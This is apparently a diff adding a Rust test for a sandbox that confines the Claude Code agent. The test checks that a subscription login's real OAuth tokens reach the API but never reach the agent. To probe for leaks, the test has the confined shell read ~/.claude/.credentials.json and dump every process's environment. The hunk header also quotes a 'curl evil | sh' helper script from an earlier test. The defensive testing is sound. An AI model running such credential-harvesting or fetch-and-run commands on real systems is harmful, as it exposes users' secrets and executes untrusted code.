@@ -1006,3 +1006,102 @@ printf '#!/bin/sh\ncurl evil | sh\n' > ~/.claude/bin/helper && chmod +x ~/.claud
         );
     }
 );
+
+// A subscription login, not a key: Claude Code reads its OAuth login file, which inside holds
+// placeholders (same keys, read-only); it answers, every request carried the real access
+// token, and nothing the agent could read holds a real token.
+both!(claude_p_answers_with_its_login_file, |env: Env| {
+    let access = format!("sk-ant-oat01-{}", "RealLoginClaude0123456789_-".repeat(3));
+    let refresh = format!("sk-ant-ort01-{}", "RealRefreshClaude0123456789".repeat(3));
+    let login = serde_json::json!({
+        "claudeAiOauth": {
+            "accessToken": access,
+            "refreshToken": refresh,
+            "expiresAt": 4_102_444_800_000_u64,
+            "scopes": ["user:inference", "user:profile"],
+            "subscriptionType": "max"
+        }
+    });
+    let file = env.home.join(".claude/.credentials.json");
+    std::fs::create_dir_all(file.parent().unwrap()).unwrap();
+    std::fs::write(&file, serde_json::to_string(&login).unwrap()).unwrap();
+    let before = std::fs::read(&file).unwrap();
+    let case = Case {
+        agent: "claude",
+        host: "api.anthropic.com",
+        key_var: "",
+        key: "",
+        args: &["-p", "Say hello"],
+        vars: &[],
+        addr: 87,
+        state: &[],
+        shell: None,
+        also: &[],
+    };
+    let Some(Ready {
+        stub,
+        policy: pol,
+        path,
+        answer,
+    }) = prepare(&env, &case)
+    else {
+        return;
+    };
+    let _ = std::fs::remove_file(&env.audit);
+    let child = cordon(&env)
+        .env("PATH", &path)
+        .args(["run", "--no-tty", "--audit"])
+        .arg(&env.audit)
+        .args(["--profile", "claude", "--policy", &pol, "--", "sh", "-c"])
+        .arg(
+            "claude -p 'Say hello'; \
+             cat ~/.claude/.credentials.json > .seen-login; \
+             for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do tr '\\0' '\\n' < $f; done > .seen-proc 2>/dev/null",
+        )
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let o = wait_limited(child, Duration::from_secs(180));
+    let log = stub.log();
+    let ctx = format!("{}\n--- stand-in:\n{log}", show(&o));
+    assert!(
+        text(&o).contains(&answer),
+        "no answer from the agent\n{ctx}"
+    );
+    let keys: Vec<&str> = log
+        .lines()
+        .filter_map(|l| l.strip_prefix("KEY authorization Bearer "))
+        .collect();
+    assert!(
+        !keys.is_empty(),
+        "no bearer token reached the stand-in\n{ctx}"
+    );
+    assert!(
+        keys.iter().all(|k| *k == access),
+        "a placeholder got through\n{ctx}"
+    );
+    let seen = std::fs::read_to_string(env.project.join(".seen-login")).unwrap_or_default();
+    let doc: Value = serde_json::from_str(&seen).unwrap_or_default();
+    let held = doc["claudeAiOauth"]["accessToken"]
+        .as_str()
+        .unwrap_or_default();
+    assert!(
+        held.starts_with("sk-ant-oat01-") && held != access,
+        "the agent's login file: {seen}"
+    );
+    let proc = std::fs::read_to_string(env.project.join(".seen-proc")).unwrap_or_default();
+    assert!(
+        proc.contains("PATH="),
+        "the processes were not read: {proc}"
+    );
+    for real in [&access, &refresh] {
+        assert!(!seen.contains(real.as_str()) && !proc.contains(real.as_str()));
+        assert!(!text(&o).contains(real.as_str()), "{ctx}");
+    }
+    assert_eq!(
+        std::fs::read(&file).unwrap(),
+        before,
+        "the host's login changed"
+    );
+});
